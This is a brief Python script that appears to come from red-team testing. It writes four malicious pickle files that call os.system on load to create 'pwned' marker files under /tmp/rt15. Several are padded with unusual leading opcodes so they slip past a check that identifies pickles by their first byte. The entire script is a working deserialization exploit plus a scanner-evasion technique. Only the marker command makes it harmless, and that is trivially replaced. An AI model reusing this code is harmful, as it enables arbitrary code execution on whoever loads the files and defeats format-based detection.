def p0(name):
    return b"cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % name.encode()
def p4body(name):
    cmd = b"touch /tmp/rt15/pwned_" + name.encode()
    return b"\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."
# pickle whose first opcode is not in the sniff set
open("fn_sniff_newtrue.pkl","wb").write(b"\x880" + p0("sniff_newtrue"))
open("fn_sniff_shortbinunicode.pkl","wb").write(p4body("sniff_shortbinunicode"))
open("fn_sniff_frame.pkl","wb").write(b"\x95" + (len(p4body("sniff_frame"))).to_bytes(8,"little") + p4body("sniff_frame"))
open("fn_sniff_emptyset.pkl","wb").write(b"\x8f0" + p0("sniff_emptyset"))
